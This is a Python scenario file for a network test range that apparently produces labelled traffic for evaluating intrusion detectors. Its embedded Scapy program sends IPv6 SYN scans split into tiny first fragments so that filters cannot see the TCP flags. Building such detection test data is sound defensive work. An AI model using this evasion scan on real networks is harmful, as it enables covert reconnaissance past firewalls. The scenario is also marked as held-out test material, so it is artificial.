"""First fragments over IPv6 that end within the TCP header: a filter does not see the flags."""

from lab import servers
from lab.range import Range
from lab.scenario import Scenario

PROGRAM = """
import sys
mine, target = sys.argv[1:3]
for number, port in enumerate((21, 22, 23, 80, 443, 3389, 8080, 5900)):
    base = IPv6(src=mine, dst=target)
    segment = base / TCP(sport=50300 + number, dport=port, flags="S", seq=1000 + number, window=1024)
    octets = bytes(segment)[40:]
    head = dict(nh=6, id=70000 + number)
    send(base / IPv6ExtHdrFragment(offset=0, m=1, **head) / Raw(octets[:8]))
    send(base / IPv6ExtHdrFragment(offset=1, m=0, **head) / Raw(octets[8:]))
    time.sleep(1.2)
"""


def run(net: Range) -> None:
    attacker, files = net.outside("attacker"), net.inside("files")
    servers.shell(files)
    servers.files(files)
    net.everyday()
    net.loop(net.inside("pc2"), f"curl -s -m 3 -o /dev/null -g ftp://[{files.ip6}]/report.txt", 1.7)
    net.loop(net.inside("pc1"), f"ping -6 -n -q -c 1 -W 1 -s 4000 {files.ip6}", 1.3)
    net.quiet(4)
    with net.attack(
        "tiny-fragments",
        by=attacker,
        attackers=[attacker.ip6],
        victims=[files.ip6],
        also=["port-scan"],
        frames=f"ip6 dst host {files.ip6} and ip6[6] == 44",
        responses=f"ip6 and src host {files.ip6} and dst host {attacker.ip6}",
    ):
        net.scapy(attacker, PROGRAM, attacker.ip6, files.ip6, seconds=24)
    net.quiet(3)


SCENARIO = Scenario(
    name="tiny-fragments-held-ipv6",
    about="From outside come eight SYNs over IPv6 whose first fragments hold eight octets of TCP.",
    detectors=("tiny-fragments",),
    tools={"vsftpd": "vsftpd", "/usr/sbin/sshd": "openssh-server"},
    held_out=True,
    run=run,
)
